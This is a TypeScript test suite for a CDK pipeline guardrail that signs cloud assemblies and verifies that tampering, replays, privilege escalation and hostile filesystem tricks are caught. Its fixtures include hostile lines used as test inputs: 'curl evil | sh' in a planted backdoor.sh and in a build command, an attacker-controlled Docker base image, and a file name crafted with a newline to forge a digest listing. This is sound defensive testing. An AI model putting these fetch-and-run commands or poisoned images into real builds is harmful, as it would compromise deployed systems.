// The guardrail against the real app: one `cdk synth` for the whole file, signed once,
// then every case verifies its own copy of that assembly, changed the way an attacker
// (the commit under test) would change it.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type AssemblyInfo, findStage, readCloudAssembly } from '../../pipeline/guardrail/assembly.js';
import {
  ATTESTATION_FILE,
  readAttestation,
  type StageConfig,
  writeAttestation,
} from '../../pipeline/guardrail/attestation.js';
import { main } from '../../pipeline/guardrail/cli.js';
import { runGate } from '../../pipeline/guardrail/gate.js';
import { formatResult } from '../../pipeline/guardrail/report.js';
import { UnusableInputError } from '../../pipeline/guardrail/safe-fs.js';
import { deriveKey, keyIdOf } from '../../pipeline/guardrail/token.js';
import { sharedAssembly } from '../support/app';
import { type VerifyResult, verifyAssembly } from '../../pipeline/guardrail/verify.js';

const REPO = resolve(__dirname, '..', '..');
const TOKEN = 'r5gdjql-k000zve0-zxk'; // the seed token
const NEW_TOKEN = 'Rotated-Token-2026-q4-xyz';
const RELEASE = 'a'.repeat(40);
const OLDER_RELEASE = 'b'.repeat(40);
const CONTEXT = JSON.parse(readFileSync(join(REPO, 'cdk.json'), 'utf8')).context;
const STAGE_CONFIG: StageConfig = { staging: CONTEXT.staging, production: CONTEXT.production };

const temps: string[] = [];
let synthesized: string;
let signed: string;

function tempDir(prefix: string): string {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), prefix)));
  temps.push(dir);
  return dir;
}

/** The environment of a child process, without any guardrail variables of the caller's. */
function childEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const env = { ...process.env };
  for (const name of ['GUARDRAIL_TOKEN', 'GUARDRAIL_PREVIOUS_TOKEN', 'PIPELINE_EXECUTION_ID']) delete env[name];
  return { ...env, ...extra };
}

function sign(dir: string, token = TOKEN, commit = RELEASE, stageConfig: StageConfig | null = STAGE_CONFIG): void {
  writeAttestation(dir, deriveKey(token), { release: { commit, pipelineExecutionId: null }, ...(stageConfig ? { stageConfig } : {}) });
}

beforeAll(() => {
  synthesized = sharedAssembly();
  signed = tempDir('guardrail-signed-');
  cpSync(synthesized, signed, { recursive: true, verbatimSymlinks: true });
  sign(signed);
});

afterAll(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

/** A fresh copy of the signed assembly. */
function copy(): string {
  const dir = tempDir('guardrail-case-');
  cpSync(signed, dir, { recursive: true, verbatimSymlinks: true });
  return dir;
}

function verify(dir: string, env: NodeJS.ProcessEnv = { GUARDRAIL_TOKEN: TOKEN }, release = RELEASE): VerifyResult {
  return verifyAssembly({ assemblyDir: dir, env, release });
}

/** Ids of the checks that did not pass. */
function notPassing(result: VerifyResult): string[] {
  return result.checks.filter((c) => c.status !== 'pass').map((c) => c.id);
}

function check(result: VerifyResult, id: string) {
  const found = result.checks.find((c) => c.id === id);
  if (!found) throw new Error(`no check ${id}`);
  return found;
}

/** Summary and details of a check as one string, for matching messages. */
function text(result: VerifyResult, id: string): string {
  const c = check(result, id);
  return [c.summary, ...c.details].join('\n');
}

const stage = (dir: string, name: string): AssemblyInfo => findStage(readCloudAssembly(dir), name);
const production = (dir: string) => stage(dir, 'Production');
const staging = (dir: string) => stage(dir, 'Staging');
/** A stage's web ACL stack: the smallest template, quick for the audit to run again after an edit. */
const edgeWaf = (assembly: AssemblyInfo) => assembly.stacks.find((s) => s.displayName.endsWith('/EdgeWaf'))!;

/** The first production template holding a resource of `type`, with that resource's logical id. */
function productionResource(dir: string, type: string): { template: string; logicalId: string } {
  for (const stack of production(dir).stacks) {
    const resources = readJson(join(dir, stack.template)).Resources as Record<string, { Type: string }>;
    const logicalId = Object.keys(resources).find((id) => resources[id]!.Type === type);
    if (logicalId) return { template: stack.template, logicalId };
  }
  throw new Error(`no ${type} in the production templates`);
}

function firstDockerContext(dir: string): { id: string; path: string; manifest: string; dockerfile: string } {
  const asset = production(dir).assets.find((a) => a.kind === 'docker-context');
  if (!asset?.path) throw new Error('production deploys no Docker image asset');
  // The contexts are services/ with one service's folder: its Dockerfile is <service>/Dockerfile.
  const dockerfile = ['api/Dockerfile', 'worker/Dockerfile'].find((file) => existsSync(join(dir, asset.path!, file)));
  if (!dockerfile) throw new Error(`no service Dockerfile in ${asset.path}`);
  return { id: asset.id, path: asset.path, manifest: asset.manifest, dockerfile };
}

/** The assets manifest of a stage that lists Docker images. */
function dockerManifest(assembly: AssemblyInfo): string {
  const asset = assembly.assets.find((a) => a.kind === 'docker-context');
  if (!asset) throw new Error(`${assembly.displayName} has no Docker image`);
  return asset.manifest;
}

function readJson(file: string): any {
  return JSON.parse(readFileSync(file, 'utf8'));
}

function editJson(file: string, edit: (data: any) => void): void {
  const data = readJson(file);
  edit(data);
  writeFileSync(file, JSON.stringify(data, null, 1));
}

const CHECK_IDS = [
  'token',
  'attestation',
  'key-id',
  'signature',
  'release',
  'digests',
  'staging-parity',
  'template-parity',
  'production-contents',
  'compliance-project-rules',
  'compliance-control-tower',
  'compliance-packs',
  'compliance-acknowledgements',
  'nag',
];

describe('a fresh synth of the app, signed by the Sign step', () => {
  it('is not signed by the synth itself (the commit never holds the token)', () => {
    expect(existsSync(join(synthesized, ATTESTATION_FILE))).toBe(false);
  });

  it('passes every check', () => {
    const result = verify(copy());
    expect(notPassing(result)).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.checks.map((c) => c.id)).toEqual(CHECK_IDS);
    expect(result.signedWith).toBe('GUARDRAIL_TOKEN');
  });

  it('attests every template and asset of both stages and the release, with the key id and never the token', () => {
    const raw = readFileSync(join(signed, ATTESTATION_FILE), 'utf8');
    expect(raw).not.toContain(TOKEN);
    const attestation = readAttestation(signed);
    expect(attestation.keyId).toBe(keyIdOf(TOKEN));
    expect(attestation.release).toEqual({ commit: RELEASE, pipelineExecutionId: null });
    expect(attestation.kdf).toBe('scrypt(N=32768,r=8,p=1,dkLen=32,salt="br-fagq2/guardrail/v2")');
    const attested = new Set(attestation.entries.map((e) => e.path));
    for (const assembly of readCloudAssembly(signed)) {
      expect(attested).toContain(assembly.manifest);
      for (const stack of assembly.stacks) expect(attested).toContain(stack.template);
      for (const asset of assembly.assets) expect(attested).toContain(asset.path);
    }
    expect(attested).toContain('validation-report.json');
    expect(attested).not.toContain('tree.json');
    const docker = attestation.entries.filter((e) => e.kind === 'docker-context');
    expect(docker.length).toBeGreaterThanOrEqual(2); // the api and worker images
    const stageNames = [production(signed).displayName, staging(signed).displayName].sort();
    for (const entry of docker) expect(entry.usedBy).toEqual(stageNames);
  });
});

describe('tampering with a signed assembly', () => {
  it('fails on one byte of a template changed, naming the template', () => {
    const dir = copy();
    // The audit runs again on any changed bytes: the smallest template.
    const { template } = edgeWaf(production(dir));
    const file = join(dir, template);
    // A space becomes a tab: still valid JSON with the same meaning, but not the signed bytes.
    const content = readFileSync(file, 'utf8');
    const at = content.indexOf('\n ') + 1;
    writeFileSync(file, `${content.slice(0, at)}\t${content.slice(at + 1)}`);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toEqual([`changed: ${template} (template) differs from the signed SHA-256`]);
  });

  it('fails on a file changed, added or removed in an asset directory, naming the file', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    const file = join(dir, asset.path, asset.dockerfile);
    const bytes = readFileSync(file);
    bytes[0] = bytes[0]! ^ 0x20;
    writeFileSync(file, bytes);
    writeFileSync(join(dir, asset.path, 'backdoor.sh'), 'curl evil | sh\n');
    const manifest = asset.dockerfile.replace('Dockerfile', 'package.json');
    unlinkSync(join(dir, asset.path, manifest));
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect([...check(result, 'digests').details].sort()).toEqual([
      `added: ${asset.path}/backdoor.sh (file of asset ${asset.path}) is not in the attestation`,
      `changed: ${asset.path}/${asset.dockerfile} (file of asset ${asset.path}) differs from the signed SHA-256`,
      `removed: ${asset.path}/${manifest} (file of asset ${asset.path})`,
    ]);
  });

  it('fails when two files of an asset are replaced by one whose name holds a newline (no digest collision)', () => {
    const dir = copy();
    const asset = firstDockerContext(dir);
    // Two files next to each other at the top of the asset, signed.
    const [a, b] = ['notes-a.txt', 'notes-b.txt'];
    writeFileSync(join(dir, asset.path, a), 'first\n');
    writeFileSync(join(dir, asset.path, b), 'second\n');
    sign(dir);
    const sha = (file: string) => createHash('sha256').update(readFileSync(join(dir, asset.path, file))).digest('hex');
    // Under a "<type> <sha256> <path>\n" listing, this one file listed exactly like the two it replaces.
    const crafted = `${a}\nfile ${sha(b)} ${b}`;
    writeFileSync(join(dir, asset.path, crafted), readFileSync(join(dir, asset.path, a)));
    unlinkSync(join(dir, asset.path, a));
    unlinkSync(join(dir, asset.path, b));
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['digests']);
    expect(check(result, 'digests').details).toContain(`removed: ${asset.path}/${b} (file of asset ${asset.path})`);
    // Printed, the newline is escaped: a crafted name cannot forge an output line.
    expect(formatResult(result).some((line) => line.includes(`${a}\\u000afile`))).toBe(true);
  });

  it('fails when the attestation is edited to match a tampered template (the HMAC no longer matches)', () => {
    const dir = copy();
    // The same tampered bytes as the test above: the audit of them runs once.
    const { template } = edgeWaf(production(dir));
    writeFileSync(join(dir, template), readFileSync(join(dir, template), 'utf8').replace('\n ', '\n\t'));
    const forged = readAttestation(dir);
    const honest = tempDir('guardrail-resigned-');
    cpSync(dir, honest, { recursive: true });
    sign(honest);
    editJson(join(dir, ATTESTATION_FILE), (data) => {
      data.entries = readAttestation(honest).entries;
      data.hmac = forged.hmac;
    });
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['signature']);
    expect(check(result, 'signature').summary).toMatch(/HMAC-SHA256 of the attestation does not match/);
  });

  it('fails on an assembly the commit signed with a token of its own (the seed token), naming the key ids', () => {
    const dir = copy(); // signed with the public seed token
    const result = verify(dir, { GUARDRAIL_TOKEN: NEW_TOKEN });
    expect(notPassing(result)).toEqual(['key-id', 'signature']);
    expect(check(result, 'key-id').summary).toBe(
      `unknown key: the attestation was signed with key id ${keyIdOf(TOKEN)}; accepted: ${keyIdOf(NEW_TOKEN)} (GUARDRAIL_TOKEN)`,
    );
  });

  it('fails without a token, and with a 5-character token', () => {
    expect(notPassing(verify(copy(), {}))).toEqual(['token', 'key-id', 'signature']);
    const weak = verify(copy(), { GUARDRAIL_TOKEN: 'ab-12' });
    expect(notPassing(weak)).toEqual(['token', 'key-id', 'signature']);
    expect(text(weak, 'token')).toMatch(/GUARDRAIL_TOKEN is too weak \(5 characters\): it needs 20 to 256/);
    expect(JSON.stringify(weak)).not.toContain('ab-12');
  });

  it('fails on a malformed or missing attestation', () => {
    const dir = copy();
    const file = join(dir, ATTESTATION_FILE);
    writeFileSync(file, readFileSync(file, 'utf8').slice(0, 100));
    expect(check(verify(dir), 'attestation').summary).toMatch(/^guardrail-attestation.json: not valid JSON/);
    unlinkSync(file);
    expect(check(verify(dir), 'attestation').summary).toMatch(/guardrail-attestation.json is missing .*not signed/);
  });
});

describe('releases bound to their commit', () => {
  it('refuses an assembly signed for an older commit (replay)', () => {
    const dir = copy();
    sign(dir, TOKEN, OLDER_RELEASE);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['release']);
    expect(check(result, 'release').summary).toBe(
      `the assembly was signed for commit ${OLDER_RELEASE}, not for the release ${RELEASE}: refusing a replay`,
    );
  });

  it('refuses an assembly signed in another pipeline execution', () => {
    const dir = copy();
    writeAttestation(dir, deriveKey(TOKEN), { release: { commit: RELEASE, pipelineExecutionId: 'exec-1' }, stageConfig: STAGE_CONFIG });
    expect(notPassing(verify(dir, { GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-1' }))).toEqual([]);
    const result = verify(dir, { GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-2' });
    expect(notPassing(result)).toEqual(['release']);
  });
});

describe('token rotation', () => {
  it('accepts the previous token during a rotation window and says which key verified', () => {
    const result = verify(copy(), { GUARDRAIL_TOKEN: NEW_TOKEN, GUARDRAIL_PREVIOUS_TOKEN: TOKEN });
    expect(notPassing(result)).toEqual([]);
    expect(result.signedWith).toBe('GUARDRAIL_PREVIOUS_TOKEN');
    expect(result.acceptedKeyIds).toEqual([keyIdOf(NEW_TOKEN), keyIdOf(TOKEN)]);
  });

  it('refuses a key that is neither current nor previous', () => {
    const result = verify(copy(), { GUARDRAIL_TOKEN: NEW_TOKEN, GUARDRAIL_PREVIOUS_TOKEN: 'Another-Old-Token-1234' });
    expect(notPassing(result)).toEqual(['key-id', 'signature']);
  });
});

describe('parity: what production ships is what staging tested', () => {
  it('fails on a production-only NODE_IMAGE build arg (another base image), naming the input', () => {
    const dir = copy();
    editJson(join(dir, dockerManifest(production(dir))), (manifest) => {
      for (const image of Object.values<any>(manifest.dockerImages)) {
        image.source.dockerBuildArgs = { NODE_IMAGE: 'docker.io/attacker/node:22' };
      }
    });
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['staging-parity']);
    expect(check(result, 'staging-parity').details).toHaveLength(2);
    expect(text(result, 'staging-parity')).toMatch(
      /Docker image \w+ .* is deployed by Pipeline\/Production but Pipeline\/Staging never deployed it: staging asset \w+ builds the same content with other inputs: source\/dockerBuildArgs\/NODE_IMAGE: staging has "public.ecr.aws\/docker\/library\/node:22-alpine", production "docker.io\/attacker\/node:22"/,
    );
  });

  it('fails on an executable asset with the same id but another command', () => {
    const dir = copy();
    const image = (command: string[]) => ({
      source: { executable: command },
      destinations: {},
    });
    editJson(join(dir, dockerManifest(staging(dir))), (m) => {
      m.dockerImages.exec = image(['sh', '-c', 'build-image']);
    });
    editJson(join(dir, dockerManifest(production(dir))), (m) => {
      m.dockerImages.exec = image(['sh', '-c', 'build-image && curl evil | sh']);
    });
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['staging-parity']);
    expect(check(result, 'staging-parity').details).toEqual([
      expect.stringMatching(/^Docker image exec \(built by \["sh","-c","build-image && curl evil \| sh"\].*never deployed it: .*source\/executable\/2/),
    ]);
  });

  it('fails on a production-only file asset named *.template.json (templates are recognised by the manifests, not by name)', () => {
    const dir = copy();
    writeFileSync(join(dir, 'payload.template.json'), JSON.stringify({ Resources: {} }));
    editJson(join(dir, dockerManifest(production(dir))), (m) => {
      m.files.payload = { source: { path: '../payload.template.json', packaging: 'file' }, destinations: {} };
    });
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['staging-parity']);
    expect(text(result, 'staging-parity')).toMatch(/file asset payload \(payload.template.json, .*never deployed it/);
  });

  it('fails on a production template that differs from staging beyond the per-stage configuration', () => {
    const dir = copy();
    const { template, logicalId } = productionResource(dir, 'AWS::IAM::Role');
    editJson(join(dir, template), (t) => {
      t.Resources[logicalId].Properties.ManagedPolicyArns = ['arn:aws:iam::aws:policy/AdministratorAccess'];
    });
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['template-parity', 'compliance-project-rules']);
    expect(check(result, 'template-parity').details).toEqual([
      `${template}/Resources/${logicalId}/Properties/ManagedPolicyArns: only in production (["arn:aws:iam::aws:policy/AdministratorAccess"])`,
    ]);
  });

  it('fails on an escape hatch edited into both stages alike (parity holds; the compliance audit does not)', () => {
    const dir = copy();
    // The web ACL's stacks: their log group, and templates small enough to audit again quickly.
    for (const stageOf of [production, staging]) {
      editJson(join(dir, edgeWaf(stageOf(dir)).template), (t) => {
        for (const resource of Object.values<any>(t.Resources)) {
          if (resource.Type === 'AWS::Logs::LogGroup') resource.Properties.RetentionInDays = { Ref: 'AWS::NoValue' };
        }
      });
    }
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['compliance-project-rules', 'compliance-control-tower']);
    expect(check(result, 'compliance-project-rules').details.join('\n')).toMatch(/project:log_group_retention on .*\[PROJECT\.LOG\.1\]/);
  });

  it('accepts the per-stage values only because the signed configuration declares them', () => {
    const dir = copy();
    sign(dir, TOKEN, RELEASE, null); // signed without --config
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['template-parity']);
    expect(text(result, 'template-parity')).toMatch(/RetentionInDays: staging has 30, production 365/);
  });

  it('accepts a per-stage setting only where the guardrail says it lands, never at a port', () => {
    const dir = copy();
    // logRetentionDays declares the pair (30, 365); a port taking that pair is not a sizing value.
    const ingress = (port: number) => ({
      Type: 'AWS::EC2::SecurityGroupIngress',
      Properties: { GroupId: 'sg-0', IpProtocol: 'tcp', FromPort: port, ToPort: port, CidrIp: '0.0.0.0/0' },
    });
    // Added to the web ACL's stacks.
    const [stagingWaf, productionWaf] = [staging(dir), production(dir)].map(edgeWaf);
    editJson(join(dir, stagingWaf!.template), (t) => {
      t.Resources.Backdoor = ingress(30);
    });
    editJson(join(dir, productionWaf!.template), (t) => {
      t.Resources.Backdoor = ingress(365);
    });
    sign(dir);
    const result = verify(dir);
    // The compliance audit refuses the open ingress (and Control Tower the open port) on its own.
    expect(notPassing(result)).toEqual(['template-parity', 'compliance-project-rules', 'compliance-control-tower']);
    expect(check(result, 'template-parity').details).toEqual([
      `${productionWaf!.template}/Resources/Backdoor/Properties/FromPort: staging has 30, production 365`,
      `${productionWaf!.template}/Resources/Backdoor/Properties/ToPort: staging has 30, production 365`,
    ]);
  });

  /** A copy where the same IAM role has ReadOnlyAccess in staging and AdministratorAccess in production, signed with `declare` applied to the config. */
  function policyPairCopy(declare: (config: any, pair: [string, string]) => void): string {
    const dir = copy();
    const { template, logicalId } = productionResource(dir, 'AWS::IAM::Role');
    const pair: [string, string] = ['arn:aws:iam::aws:policy/ReadOnlyAccess', 'arn:aws:iam::aws:policy/AdministratorAccess'];
    // The same stack of staging (the role has the same logical id there).
    const stagingStack = staging(dir).stacks.find((s) => readJson(join(dir, s.template)).Resources[logicalId])!;
    editJson(join(dir, stagingStack.template), (t) => {
      t.Resources[logicalId].Properties.ManagedPolicyArns = [pair[0]];
    });
    editJson(join(dir, template), (t) => {
      t.Resources[logicalId].Properties.ManagedPolicyArns = [pair[1]];
    });
    const config = structuredClone(STAGE_CONFIG) as any;
    declare(config, pair);
    sign(dir, TOKEN, RELEASE, config);
    return dir;
  }

  it('never accepts a pair from a configuration key the guardrail does not list (a free-form value could be a policy ARN)', () => {
    const dir = policyPairCopy((config, [readOnly, admin]) => {
      config.staging.worker.schedules[0].payload.data = readOnly;
      config.production.worker.schedules[0].payload.data = admin;
    });
    const result = verify(dir);
    // The compliance audit refuses the AdministratorAccess policy on its own.
    expect(notPassing(result)).toEqual(['template-parity', 'compliance-project-rules']);
    expect(text(result, 'template-parity')).toContain('ManagedPolicyArns/0: staging has "arn:aws:iam::aws:policy/ReadOnlyAccess", production "arn:aws:iam::aws:policy/AdministratorAccess"');
  });

  it('accepts a per-stage identity string (the OIDC issuer) only in its form, never as a policy ARN', () => {
    const dir = policyPairCopy((config, [readOnly, admin]) => {
      config.staging.auth = { ...config.staging.auth, oidcIssuer: readOnly };
      config.production.auth = { ...config.production.auth, oidcIssuer: admin };
    });
    expect(notPassing(verify(dir))).toEqual(['template-parity', 'compliance-project-rules']);
    // The real per-stage issuers (https URLs) differ in the real templates and pass.
    const real = copy();
    sign(real);
    expect(notPassing(verify(real))).toEqual([]);
  });

  it('fails on a production-only file in the production assembly, whatever its name', () => {
    const dir = copy();
    writeFileSync(join(dir, production(dir).directory, 'notes.txt'), 'x');
    sign(dir);
    const result = verify(dir);
    expect(notPassing(result)).toEqual(['production-contents']);
  });
});

describe('reading a hostile assembly', () => {
  it('refuses a production assembly directory that is a symlink to a folder outside the assembly', () => {
    const dir = copy();
    const prod = production(dir).directory;
    const outside = join(tempDir('guardrail-outside-'), 'prod');
    renameSync(join(dir, prod), outside);
    symlinkSync(outside, join(dir, prod));
    expect(() => verify(dir)).toThrow(UnusableInputError);
    expect(() => verify(dir)).toThrow(/assembly-Pipeline-Production: resolves to .*, outside the assembly: refusing symlinks that leave it/);
  });

  it('refuses a symlink to /dev/zero (never reads it)', () => {
    const dir = copy();
    unlinkSync(join(dir, 'validation-report.json'));
    symlinkSync('/dev/zero', join(dir, 'validation-report.json'));
    expect(() => verify(dir)).toThrow(/validation-report.json: resolves to \/dev\/zero, outside the assembly/);
    const inAsset = copy();
    symlinkSync('/dev/zero', join(inAsset, firstDockerContext(inAsset).path, 'zero'));
    expect(() => verify(inAsset)).toThrow(/zero: a symlink to "\/dev\/zero", outside the assembly/);
  });

  it('refuses nested assemblies that name each other (a cycle) instead of overflowing the stack', () => {
    const dir = copy();
    const nest = (from: AssemblyInfo, to: AssemblyInfo) =>
      editJson(join(dir, from.manifest), (m) => {
        m.artifacts.Loop = { type: 'cdk:cloud-assembly', properties: { directoryName: `../${to.directory}`, displayName: 'Loop' } };
      });
    const [prod, stag] = [production(dir), staging(dir)];
    nest(prod, stag);
    nest(stag, prod);
    expect(() => verify(dir)).toThrow(UnusableInputError);
    expect(() => verify(dir)).toThrow(/nested assemblies form a cycle: .*assembly-Pipeline-Staging -> .*assembly-Pipeline-Production -> .*assembly-Pipeline-Staging/);
  });

  it('refuses an oversized JSON file with a clear message', () => {
    const dir = copy();
    const { template } = productionResource(dir, 'AWS::S3::Bucket');
    const file = join(dir, template);
    writeFileSync(file, readFileSync(file, 'utf8').padEnd(64 * 1024 * 1024 + 1, ' '));
    expect(() => verify(dir)).toThrow(new RegExp(`${template}: 67108865 bytes, over the limit of 67108864 bytes`));
  });
});

describe('the self-mutation gate (the real pipeline template)', () => {
  const pipelineTemplate = () => readJson(join(synthesized, 'Pipeline.template.json'));
  const deployed = (template: unknown) => {
    const file = join(tempDir('guardrail-deployed-'), 'deployed.json');
    writeFileSync(file, JSON.stringify(template));
    return file;
  };

  it('passes an unchanged template, and one whose asset hashes changed (get-template output too)', () => {
    expect(runGate({ deployedFile: deployed(pipelineTemplate()), synthesizedDir: synthesized }).outcome).toBe('unchanged');
    const hashes = [...new Set(JSON.stringify(pipelineTemplate()).match(/[0-9a-f]{64}/g))];
    expect(hashes.length).toBeGreaterThanOrEqual(3);
    let text = JSON.stringify(pipelineTemplate());
    for (const [i, hash] of hashes.entries()) text = text.split(hash).join(String(i).repeat(64).slice(0, 64));
    const result = runGate({ deployedFile: deployed({ TemplateBody: text }), synthesizedDir: synthesized });
    expect(result).toMatchObject({ outcome: 'unchanged', changes: [] });
    expect(runGate({ deployedFile: deployed(text), synthesizedDir: synthesized }).outcome).toBe('unchanged');
  });

  it('refuses an added IAM policy with the digest to approve, and passes once that digest is approved', () => {
    const before = pipelineTemplate();
    // The deployed stack lacks a policy the commit adds (the commit grants itself something).
    delete before.Resources[Object.keys(before.Resources).find((id) => before.Resources[id].Type === 'AWS::IAM::Policy')!];
    const file = deployed(before);
    const refused = runGate({ deployedFile: file, synthesizedDir: synthesized });
    expect(refused.outcome).toBe('refused');
    expect(refused.digest).toMatch(/^[0-9a-f]{64}$/);
    expect(refused.changes).toEqual([expect.stringMatching(/^added: \w+ \(AWS::IAM::Policy\)$/)]);
    expect(runGate({ deployedFile: file, synthesizedDir: synthesized, approved: [refused.digest] }).outcome).toBe('approved');
    expect(runGate({ deployedFile: file, synthesizedDir: synthesized, approved: ['0'.repeat(64)] }).outcome).toBe('refused');
  });
});

describe('the CLI process, run from another directory', () => {
  const cwd = tmpdir(); // the approved checkout is elsewhere: nothing may depend on the cwd
  const cli = (args: string[], env: NodeJS.ProcessEnv) =>
    spawnSync(process.execPath, [join(REPO, 'pipeline', 'guardrail', 'cli.ts'), ...args], {
      cwd,
      env,
      encoding: 'utf8',
      timeout: 60_000, // a hang is killed (status null) and fails the exit-code assertions
    });
  const mkfifo = (path: string) => {
    const made = spawnSync('mkfifo', [path]);
    if (made.status !== 0) throw new Error(`mkfifo failed: ${made.stderr}`);
  };

  it('signs (exit 0) and verifies (exit 0), one line per check and a report outside the attested set', () => {
    const dir = tempDir('guardrail-cli-');
    cpSync(synthesized, dir, { recursive: true });
    const signing = cli(['sign', dir, '--release', RELEASE, '--config', join(REPO, 'cdk.json')], childEnv({ GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-9' }));
    expect(signing.stderr).toBe('');
    expect(signing.status).toBe(0);
    expect(signing.stdout).toMatch(new RegExp(`^signed \\d+ entries for commit ${RELEASE} with key id ${keyIdOf(TOKEN)}`));
    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-9' }));
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout.split('\n').filter((l) => /^PASS /.test(l))).toHaveLength(CHECK_IDS.length);
    const report = readJson(join(dir, 'guardrail-report.json'));
    expect(report).toMatchObject({ ok: true, release: RELEASE, signedWith: 'GUARDRAIL_TOKEN' });
    expect(JSON.stringify(report)).not.toContain(TOKEN);
  });

  it('exits 2 without hanging on a FIFO in place of the attestation', () => {
    const dir = copy();
    unlinkSync(join(dir, ATTESTATION_FILE));
    mkfifo(join(dir, ATTESTATION_FILE));
    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/guardrail-attestation.json: is a FIFO, not a regular file: refusing to open it/);
  });

  it('exits 2 without hanging on a FIFO in place of validation-report.json', () => {
    const dir = copy();
    unlinkSync(join(dir, 'validation-report.json'));
    mkfifo(join(dir, 'validation-report.json'));
    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/validation-report.json: is a FIFO: the guardrail refuses to read it/);
  });
});

describe('the CLI, in process (nothing here can block)', () => {
  /** Runs main() and returns its exit code and what it printed. */
  function run(args: string[], env: NodeJS.ProcessEnv): { status: number; stdout: string; stderr: string } {
    const out: string[] = [];
    const err: string[] = [];
    const log = vi.spyOn(console, 'log').mockImplementation((line: string) => void out.push(line));
    const error = vi.spyOn(console, 'error').mockImplementation((line: string) => void err.push(line));
    try {
      return { status: main(args, env), stdout: out.join('\n'), stderr: err.join('\n') };
    } finally {
      log.mockRestore();
      error.mockRestore();
    }
  }

  it('exits 1 on a failed check, 2 without a full --release, 2 signing with a 5-character token', () => {
    const dir = copy();
    writeFileSync(join(dir, firstDockerContext(dir).path, 'extra'), 'x');
    const failed = run(['verify', dir, '--release', RELEASE, '--report', join(tempDir('guardrail-report-'), 'r.json')], { GUARDRAIL_TOKEN: TOKEN });
    expect(failed.status).toBe(1);
    expect(failed.stdout).toMatch(/^FAIL digests: the assembly differs from what was signed \(1\)$/m);
    expect(run(['verify', dir], { GUARDRAIL_TOKEN: TOKEN }).status).toBe(2);
    expect(run(['verify', dir, '--release', 'HEAD'], { GUARDRAIL_TOKEN: TOKEN }).stderr).toMatch(/--release <commit> is required: the full git commit id/);
    const weak = run(['sign', copy(), '--release', RELEASE], { GUARDRAIL_TOKEN: 'ab-12' });
    expect(weak.status).toBe(2);
    expect(weak.stderr).toMatch(/GUARDRAIL_TOKEN is too weak \(5 characters\): it needs 20 to 256 printable ASCII characters/);
  });

  it('never writes the report through a symlink: exits 2 and leaves the target untouched', () => {
    const dir = copy();
    const target = join(tempDir('guardrail-victim-'), 'precious.txt');
    writeFileSync(target, 'precious\n');
    symlinkSync(target, join(dir, 'guardrail-report.json'));
    const result = run(['verify', dir, '--release', RELEASE], { GUARDRAIL_TOKEN: TOKEN });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/guardrail-report.json is a symlink: refusing to write through or over it/);
    expect(readFileSync(target, 'utf8')).toBe('precious\n');
  });

  it('gate: exits 1 printing the digest to approve, 0 once approved, 2 on a malformed digest or an unknown stack', () => {
    const template = readJson(join(synthesized, 'Pipeline.template.json'));
    const policy = Object.keys(template.Resources).find((id) => template.Resources[id].Type === 'AWS::IAM::Policy')!;
    delete template.Resources[policy];
    const file = join(tempDir('guardrail-gate-'), 'deployed.json');
    writeFileSync(file, JSON.stringify(template));
    const refused = run(['gate', '--deployed', file, '--synthesized', synthesized], {});
    expect(refused.status).toBe(1);
    expect(refused.stdout).toContain(`added: ${policy} (AWS::IAM::Policy)`);
    const digest = /add its digest to the approved digests: ([0-9a-f]{64})/.exec(refused.stdout)?.[1];
    expect(digest).toBeDefined();
    const approved = run(['gate', '--deployed', file, '--synthesized', synthesized, '--approved', `${'1'.repeat(64)},${digest}`], {});
    expect(approved.status).toBe(0);
    expect(approved.stdout).toMatch(/^PASS gate: .* is approved/);
    expect(run(['gate', '--deployed', file, '--synthesized', synthesized, '--approved', 'abc'], {}).status).toBe(2);
    expect(run(['gate', '--deployed', file, '--synthesized', synthesized, '--stack', 'Pipeline2'], {}).stderr).toMatch(/no stack named "Pipeline2"/);
  });
});
